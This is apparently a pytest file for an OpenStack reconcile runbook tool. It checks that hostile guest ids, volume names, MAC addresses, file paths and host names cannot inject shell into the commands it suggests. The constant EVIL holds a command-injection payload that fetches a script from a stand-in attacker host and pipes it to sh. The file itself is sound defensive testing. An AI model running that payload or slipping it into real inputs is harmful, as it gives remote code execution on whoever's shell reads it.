"""Names and identities that hosts and users have chosen to harm who pastes a command."""

import shlex
from collections.abc import Callable

import pytest

from backstay.runbooks.reconcile.comparison import ReconcileObservation
from tests.runbooks.reconciled import (
    Answers,
    changing,
    kinds,
    looked,
    only,
    put,
    rows,
    story_guest,
)

EVIL = "x$(curl${IFS}evil.example|sh)"


def unquoted(line: str) -> list[str]:
    """What a shell would read of a command line but the words that are quoted whole."""
    return [word for word in shlex.split(line, posix=False) if not word.startswith(("'", '"'))]


def harmless(found: ReconcileObservation) -> bool:
    return not any("$(" in word for one in found.mismatches for word in unquoted(one.command))


def evil_guest(answers: Answers) -> None:
    story_guest(answers)["id"] = EVIL


def evil_volume(answers: Answers) -> None:
    story_guest(answers)["volumes"] = [EVIL]


def evil_mac(answers: Answers) -> None:
    story_guest(answers)["macs"] = [EVIL]


@pytest.mark.parametrize("change", [evil_guest, evil_volume, evil_mac])
def test_what_is_no_identity_makes_that_hosts_answer_unreadable(
    change: Callable[[Answers], None],
) -> None:
    found = looked("no-record", change)
    [missing] = found.missing
    assert (missing.what, missing.host) == ("guests", "compute1")
    assert "could not read its answer: guests." in missing.why
    assert f"{EVIL!r} is no " in missing.why
    assert "curl" not in " ".join(one.command for one in found.mismatches)
    assert not [one for one in found.mismatches if " delete " in one.command], "it may be there"
    assert {one.host for one in looked("green", change).missing} == {"compute1"}


@pytest.mark.parametrize(
    ("query", "column"),
    [
        ("nova instances", "uuid"),
        ("nova compute nodes", "uuid"),
        ("nova block device mappings", "volume"),
        ("cinder volumes", "id"),
        ("cinder volumes", "stored"),
        ("cinder attachments", "instance"),
        ("glance images", "id"),
        ("glance image locations", "image"),
        ("neutron ports", "id"),
        ("neutron agents", "id"),
        ("neutron networks with DHCP", "id"),
        ("placement allocations", "consumer"),
        ("placement resource providers", "uuid"),
    ],
)
def test_a_record_without_an_identity_makes_its_table_unreadable(query: str, column: str) -> None:
    def changed(answers: Answers) -> None:
        found = rows(answers, query)
        found[-1][column] = EVIL
        put(answers, query, found)

    found = looked("green", changed)
    [missing] = found.missing
    assert missing.what == query
    assert f"could not read the records: row {len_of(query)}, {column}: " in missing.why
    assert found.mismatches == (), "nothing follows from records that were not all read"


def len_of(query: str) -> int:
    counts: list[int] = []
    looked("green", lambda answers: counts.append(len(rows(answers, query))))
    return counts[0]


def test_a_table_without_its_columns_or_rows_that_there_must_be_is_unreadable() -> None:
    def no_column(answers: Answers) -> None:
        put(answers, "nova instances", [{"uuid": "x"}])

    def no_cells(answers: Answers) -> None:
        put(answers, "nova cells", [])

    assert [one.what for one in looked("green", no_column).missing] == ["nova instances"]
    found = looked("no-record", no_cells)
    assert [one.what for one in found.missing] == ["nova cells"]
    assert ("nova", "no record") not in kinds(found)


def test_names_of_files_and_hosts_stay_one_word() -> None:
    path = f"/var/lib/glance/images/{EVIL}; 'it''s' {{ssh}}"

    def file(answers: Answers) -> None:
        answers["controller"]["answers"]["images' files"]["value"]["files"][path] = 3

    found = looked("green", file)
    one = only(found, "glance", "no record")
    assert harmless(found)
    words = shlex.split(one.command)
    assert words[:2] == ["ssh", "root@10.77.0.11"] or words[0] == "ssh"
    assert shlex.split(words[-1]) == ["qemu-img", "info", path]

    def elsewhere(answers: Answers) -> None:
        changing("nova instances", host=EVIL)(answers)

    assert harmless(looked("port", elsewhere))


def test_back_ends_that_a_host_names_stay_one_word() -> None:
    def named(answers: Answers) -> None:
        answer = answers["controller"]["answers"]["volumes' data"]["value"]
        stray = "volume-7c1d7c2e-6a5a-4a34-8a5e-0123456789ab"
        answer["stores"][EVIL] = {"driver": "RBDDriver", "names": [stray, f"volume-{EVIL}"]}

    found = looked("green", named)
    one = only(found, "cinder", "no record")
    assert harmless(found)
    assert f"controller@{EVIL}#POOL" in shlex.split(one.command)
